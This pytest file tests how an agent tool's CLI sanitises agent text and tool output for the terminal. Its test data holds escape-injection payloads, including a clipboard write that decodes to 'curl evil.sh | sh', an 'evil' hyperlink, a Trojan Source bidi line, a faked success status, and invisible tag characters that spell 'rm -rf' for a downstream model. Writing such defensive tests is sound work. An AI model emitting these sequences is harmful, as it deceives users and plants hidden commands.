"""What the CLI prints of a run: terminal-safe text, and events rendered for a person."""

from __future__ import annotations

import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.support.cli import _hidden_at_end

from hal9999.cli.output import (
    EventRenderer,
    TerminalSanitizer,
    escape_json_line,
    result_summary,
    sanitize,
    tool_target,
)
from hal9999.cli.render import event_line
from hal9999.events.models import AgentText, Message, Output, ToolCall, ToolResult, Usage

HOSTILE = {
    "title (OSC 0, BEL)": "\x1b]0;pwned\x07",
    "title (OSC 2, ST)": "\x1b]2;pwned\x1b\\",
    "clipboard (OSC 52)": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "hyperlink (OSC 8)": "\x1b]8;;http://evil\x1b\\",
    "clear screen": "\x1b[2J",
    "cursor home": "\x1b[H",
    "cursor up": "\x1b[5A",
    "erase line": "\x1b[2K",
    "alternate screen": "\x1b[?1049h",
    "DCS": "\x1bP1$r0m\x1b\\",
    "APC": "\x1b_payload\x1b\\",
    "reset (RIS)": "\x1bc",
    "save cursor": "\x1b7",
    "8-bit CSI": "\x9b2J",
    "8-bit OSC": "\x9d0;pwned\x9c",
    "carriage return": "\r",
    "backspace": "\x08\x08\x08",
    "bell": "\x07",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_escape_sequences_that_act_on_the_terminal_are_dropped(name: str) -> None:
    text = f"before{HOSTILE[name]}after\n"
    clean = sanitize(text)
    assert "\x1b" not in clean and not any(0x80 <= ord(c) <= 0x9F for c in clean)
    assert "\r" not in clean and "\x07" not in clean and "\x08" not in clean
    assert clean.startswith("before") and clean.endswith("after\n")


BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def test_bidirectional_controls_are_spelled_out_on_every_terminal_path() -> None:
    """A terminal that does bidi (Konsole, mlterm, VTE's) reorders the text after an RLO:
    in `hal task diff` a line of an agent's code read as a comment ("Trojan Source")."""
    from hal9999.cli.approvals import plain
    from hal9999.cli.task_table import one_line, sanitized

    line = 'if access != "user\u202e \u2066// admin\u2069 \u2066":\n'
    shown = line.replace("\u202e", "\u27e8U+202E\u27e9").replace("\u2066", "\u27e8U+2066\u27e9")
    shown = shown.replace("\u2069", "\u27e8U+2069\u27e9")
    stream = TerminalSanitizer()
    streamed = "".join(stream.feed(c) for c in line) + stream.flush()
    for clean in (sanitize(line), streamed, sanitized(line), plain(line)):
        assert clean == shown
    assert one_line(line) == shown.rstrip("\n")
    assert not any(c in BIDI for c in sanitize(BIDI) + one_line(BIDI))
    assert sanitize(BIDI).count("\u27e8U+") == len(BIDI)


def test_colours_newlines_and_tabs_are_kept() -> None:
    text = "\x1b[31mred\x1b[0m\tand \x1b[1;38;5;208mbold orange\x1b[m\nnext"
    assert sanitize(text) == text


def test_a_fake_status_cannot_be_painted() -> None:
    fake = "status failed\r\x1b[2K\x1b[1A\x1b[32mstatus succeeded\x1b[0m"
    assert sanitize(fake) == "status failed\x1b[32mstatus succeeded\x1b[0m"


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_sequences_split_across_chunks_are_still_dropped(name: str) -> None:
    text = f"a{HOSTILE[name]}b\x1b[31mc\x1b[0m"
    expected = sanitize(text)
    for cut in range(len(text) + 1):
        stream = TerminalSanitizer()
        out = stream.feed(text[:cut]) + stream.feed(text[cut:]) + stream.flush()
        assert out == expected, cut


def test_json_lines_escape_c1_controls() -> None:
    line = json.dumps({"text": "a\x9b2J\x1b[2Jb"}, ensure_ascii=False)
    escaped = escape_json_line(line)
    assert not any(0x80 <= ord(c) <= 0x9F or c == "\x1b" for c in escaped)
    assert json.loads(escaped) == json.loads(line)


def test_event_lines_are_sanitised() -> None:
    line = event_line(AgentText(seq=1, text="hi\x1b]52;c;eA==\x07\x1b[2J there"))
    assert line is not None and "\x1b]" not in line and "\x1b[2J" not in line
    assert "hi" in line and "there" in line


def _render(*events: object, show_output: bool = False) -> str:
    out = io.StringIO()
    renderer = EventRenderer(out, color=True, show_output=show_output)
    for event in events:
        renderer(event)  # type: ignore[arg-type]
    return out.getvalue()


def test_renderer_shows_text_tool_calls_results_and_errors() -> None:
    text = _render(
        AgentText(text="I will fix the bug."),
        ToolCall(name="Read", input={"file_path": "/workspace/calc.py"}),
        ToolResult(output="1\tdef add(a, b):\n2\t    return a - b\n"),
        ToolCall(name="Bash", input={"command": "python -m pytest -q"}),
        ToolResult(output="FAILED test_calc.py\nmore\n", is_error=True),
        Message(level="error", text="claude reported an error: overloaded"),
        Usage(input_tokens=10, output_tokens=2, total=True),
        Output(text='{"type":"assistant"}\n'),
    )
    lines = text.splitlines()
    assert lines[0] == "I will fix the bug."
    assert "Read" in lines[1] and lines[1].endswith("/workspace/calc.py")
    assert "✓ 1 def add(a, b): (+1 lines)" in lines[2]
    assert "Bash" in lines[3] and lines[3].endswith("python -m pytest -q")
    assert lines[4].startswith("\x1b[31m") and "✗ FAILED test_calc.py (+1 lines)" in lines[4]
    assert lines[5].startswith("\x1b[31merror: claude reported an error")
    assert len(lines) == 6  # usage is in the summary; raw stream-json is not shown


def test_renderer_shows_plain_output_when_asked() -> None:
    assert _render(Output(text="hello\x1b[2J\n"), show_output=True) == "hello\n"


def test_renderer_sanitises_agent_text() -> None:
    text = _render(AgentText(text="x\x1b]0;t\x07y"), ToolCall(name="B\x1b[2Jash", input={}))
    assert "\x1b]" not in text and "\x1b[2J" not in text


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        ({"command": "ls -la"}, "ls -la"),
        ({"cmd": ["git", "status"]}, "git status"),
        ({"file_path": "a.py", "content": "x"}, "a.py"),
        ({"pattern": "TODO"}, "TODO"),
        ({}, ""),
        ({"other": 1}, '{"other": 1}'),
    ],
)
def test_tool_target(data: dict[str, object], expected: str) -> None:
    assert tool_target(data) == expected


def test_result_summary() -> None:
    assert result_summary("") == "(no output)"
    assert result_summary("one\n\n") == "one"
    assert result_summary("a\nb\nc") == "a (+2 lines)"


HIDING = st.sampled_from(
    ["\x1b[8m", "\x1b[30;40m", "\x1b[38;5;0;48;5;0m", "\x1b[0;8m", "\x1b[0m", "\x1b[m",
     "\x1b[28m", "\x1b[31m", "\n", "ok", "\x1b[8"]
)  # fmt: skip
AGENT_TEXT = st.lists(HIDING | st.text(max_size=4), max_size=8).map("".join)


@settings(max_examples=150, deadline=None)
@given(texts=st.lists(AGENT_TEXT, min_size=4, max_size=4), show_output=st.booleans())
def test_what_hal_prints_after_the_agents_text_is_never_hidden(
    texts: list[str], show_output: bool
) -> None:
    # The agent's colours are kept, and so was a conceal (ESC[8m) or black on black it left
    # set: its own "status succeeded", then everything hal printed after it (tool lines,
    # errors, the run's summary) invisible. Each piece of the agent's is closed now.
    assert not _hidden_at_end(sanitize(texts[0]))
    for events in (
        [AgentText(text=texts[0]), Message(level="error", text=texts[1])],
        [ToolCall(name=texts[0], input={"command": texts[1]})],
        [ToolResult(output=texts[0] * 30, is_error=True)],
        [Output(text=texts[0]), Output(text=texts[1]), Message(level="warning", text="w")],
    ):
        out = io.StringIO()
        renderer = EventRenderer(out, color=True, show_output=show_output)
        for event in events:
            renderer(event)
        text = out.getvalue()
        last = events[-1]
        if isinstance(last, Message):  # hal's own line: hidden if the state before it hides
            assert not _hidden_at_end(text[: text.rindex(f"{last.level}: ")]), text
        else:
            assert not _hidden_at_end(text), text
    stream = TerminalSanitizer()
    streamed = "".join(stream.feed(text) for text in texts) + stream.flush()
    assert not _hidden_at_end(streamed), streamed
    assert not _hidden_at_end(event_line(AgentText(seq=1, text=texts[0])) or "")


def test_invisible_characters_are_spelled_out_and_joiners_kept() -> None:
    """A zero width space, a BOM or tag characters draw as nothing: `main` and `main\u200b`
    read the same, and tags spell ASCII only the next model reads."""
    from hal9999.cli.approvals import plain
    from hal9999.cli.task_table import one_line, sanitized

    hidden = "".join(chr(0xE0000 + ord(c)) for c in "rm -rf")
    line = f"ok\u200b{hidden}\ufeff\u2060 👨\u200d👩\u200d👧 ❤\ufe0f\n"
    shown = "ok⟨U+200B⟩" + "".join(f"⟨U+{0xE0000 + ord(c):05X}⟩" for c in "rm -rf")
    shown += "⟨U+FEFF⟩⟨U+2060⟩ 👨\u200d👩\u200d👧 ❤\ufe0f\n"
    stream = TerminalSanitizer()
    streamed = "".join(stream.feed(c) for c in line) + stream.flush()
    for clean in (sanitize(line), streamed, sanitized(line), plain(line)):
        assert clean == shown
    assert one_line(line) == shown.rstrip("\n")


def test_json_lines_escape_bidi_and_invisible_characters() -> None:
    # `hal run --events` and `hal task events --json` on a terminal: an RLO in a string
    # reordered the line, tag characters hid what it holds (`--json` is ASCII already).
    text = 'if x != "user\u202e \u2066// admin\u2069\u200b' + chr(0xE0072) + '"\x9b'
    line = json.dumps({"text": text}, ensure_ascii=False)
    escaped = escape_json_line(line)
    assert escaped.isascii(), escaped
    assert escaped == json.dumps({"text": text}), escaped
    assert json.loads(escaped) == json.loads(line)
